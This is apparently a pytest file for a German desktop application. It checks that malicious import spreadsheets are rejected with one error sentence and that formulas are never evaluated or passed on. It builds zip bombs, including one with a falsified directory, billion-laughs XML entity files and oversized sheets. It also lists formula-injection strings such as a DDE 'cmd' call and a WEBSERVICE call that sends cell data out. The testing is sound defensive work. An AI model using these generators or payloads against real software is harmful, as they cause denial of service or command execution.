"""T24: whatever a file for import hides, it ends as one sentence in a process of its own, and nothing in it is run."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from xml.etree import ElementTree

import pytest
from xlsxwriter import Workbook

from desktop.errors import ImportFileError
from desktop.exchange.apart import read_tables_apart
from desktop.exchange.handover_list import find_list, read_list
from desktop.exchange.returned_rows import returned_rows
from desktop.exchange.table import MAX_ROWS
from desktop.exchange.xlsx_package import MAX_RATIO
from tests.proof.recording import Proof, german

HEADING, ROW = ("Name", "Vorname", "Geburtsdatum"), ("Ali", "Ömer", "03.04.1990")
FORMULAS = (
    "=cmd|' /C calc'!A0", "=WEBSERVICE(\"https://beispiel.invalid/?\"&A1)", "=HYPERLINK(\"file:///C:/\",\"x\")",
    "+1+1", "-2+3", "@SUM(1;1)", "=1+1", "\t=1+1",
)  # fmt: skip


@dataclass
class Tried:
    sentence: str
    seconds: float


def tried(data: bytes) -> Tried:
    """What a user would read, and after how long."""
    started = time.perf_counter()
    with pytest.raises(ImportFileError) as caught:
        read_tables_apart(data)
    return Tried(str(caught.value), time.perf_counter() - started)


def book(rows: list[tuple[object, ...]]) -> bytes:
    """Written as most programs do: texts in a table of their own, and what begins with „=“ becomes a formula."""
    buffer = io.BytesIO()
    with Workbook(buffer, {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("Liste")
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
    return buffer.getvalue()


def repacked(data: bytes, change: Callable[[str, bytes], bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w", how) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
    return buffer.getvalue()


def blown_up(million_bytes: int) -> bytes:
    """A workbook whose sheet is mostly blanks, packed a thousand times smaller."""
    return repacked(book([HEADING, ROW]),
                    lambda name, part: part + b" " * (million_bytes * 1_000_000 if "sheet1" in name else 0))


def lying(million_bytes: int) -> bytes:
    """The same with a directory that states small sizes."""
    data = bytearray(blown_up(million_bytes))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as package:
        size = max(part.file_size for part in package.infolist()).to_bytes(4, "little")
    while size in data:
        place = data.index(size)
        data[place : place + 4] = (4000).to_bytes(4, "little")
    return bytes(data)


def many_rows(count: int) -> bytes:
    """A sheet of so many rows with one cell each, as small as XML lets it be."""
    rows = b"".join(b'<row r="%d"><c t="inlineStr"><is><t>A</t></is></c></row>' % row for row in range(1, count + 1))
    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + rows
             + b"</sheetData></worksheet>")
    return repacked(book([HEADING]), lambda name, part: sheet if "sheet1" in name else part)


def entities(depth: int, encoding: str = "utf-8") -> tuple[bytes, bytes]:
    """A workbook whose text grows tenfold with every level, and the part alone."""
    declared = '<!ENTITY e0 "aaaaaaaaaa">' + "".join(
        f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, depth + 1)
    )
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [{declared}]><x>&e{depth};</x>'
    part = text.encode(encoding)
    return repacked(book([HEADING, ROW]), lambda name, old: part if name == "xl/workbook.xml" else old), part


def pointing(columns: int) -> bytes:
    """Passes every look at its package: one long text that all cells point to."""
    cells = b'<c t="s"><v>0</v></c>' * columns
    rows = b"".join(b'<row r="%d">%s</row>' % (row, cells) for row in range(1, MAX_ROWS))
    space = b' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = b"<worksheet" + space + b"><sheetData>" + rows + b"</sheetData></worksheet>"
    strings = b"<sst" + space + b"><si><t>" + b"xyzw" * 7_500 + b"</t></si></sst>"

    def change(name: str, part: bytes) -> bytes:
        return sheet if "sheet1" in name else strings if "sharedStrings" in name else part

    return repacked(book([HEADING, ROW]), change, zipfile.ZIP_STORED)


def test_bombs_end_as_one_sentence(proof: Proof) -> None:
    rows = proof.amount(250_000, 1_000_000)
    files = {
        "zip": blown_up(proof.amount(30, 400)),
        "zip, lying": lying(30),
        "rows": many_rows(rows),
        "rows as text": b"Name;Ort\n" + b"Ali;Ulm\n" * rows,
        "entities": entities(8)[0],
        "entities, UTF-16": entities(8, "utf-16")[0],
        "swelling": pointing(5),
    }
    said = {name: tried(data) for name, data in files.items()}
    assert "gefährliche Größe" in said["zip"].sentence
    assert "mehr als 20.000 Zeilen" in said["rows"].sentence
    assert "mehr als 20.000 Zeilen" in said["rows as text"].sentence
    assert "XML-Entitäten" in said["entities"].sentence
    assert "XML-Entitäten" in said["entities, UTF-16"].sentence
    assert "mehr Text als eine Liste" in said["swelling"].sentence
    longest = max(answer.seconds for answer in said.values())
    control = controls(blown_up(30), entities(4)[1])
    proof.reached("T24", "gefährliche Importdateien mit einem Satz abgewiesen",
                  f"{len(said)} von {len(files)}, höchstens {german(longest, 1)} s", "alle, < 5 s", control)


def controls(bomb: bytes, part: bytes) -> str:
    """What an ordinary reader would have done with the same files."""
    with zipfile.ZipFile(io.BytesIO(bomb)) as package:
        unpacked = sum(len(package.read(name)) for name in package.namelist())
    assert unpacked > 2 * MAX_RATIO * len(bomb)
    grown = ElementTree.fromstring(part).text  # noqa: S314  the control is the unprotected parser
    assert grown is not None
    assert len(grown) > 100 * len(part)
    times = german(unpacked / len(bomb), 0)
    return f"ungeschützt: Archiv wächst auf das {times}-Fache, Entitäten auf das {len(grown) // len(part)}-Fache"


def test_formulas_are_words_and_stay_words(proof: Proof) -> None:
    """Nothing is worked out when reading; what goes back to the county holds no formula."""
    rows = [(*HEADING, "Bemerkung"), *((*ROW, formula) for formula in FORMULAS)]
    lines = "\n".join(";".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
    shown = 0
    for data in (lines.encode("utf-8"), book([tuple(row) for row in rows])):
        incoming = read_list(find_list(read_tables_apart(data)))
        answer = returned_rows(incoming, dict.fromkeys(incoming.cells, "nicht übernommen"))
        with zipfile.ZipFile(io.BytesIO(answer)) as package:
            sheets = [package.read(name) for name in package.namelist() if "worksheets" in name]
        assert not any(b"<f" in sheet for sheet in sheets)
        shown += len(incoming.cells)
    assert shown >= 2 * len(FORMULAS)
    with zipfile.ZipFile(io.BytesIO(book([tuple(row) for row in rows]))) as package:  # the control
        assert b"<f>" in package.read("xl/worksheets/sheet1.xml")
    proof.reached("T24", "Formeln in Importdateien ausgeführt oder weitergegeben", f"0 von {shown}", "0",
                  "gewöhnlich geschrieben: dieselben Texte werden Formeln")
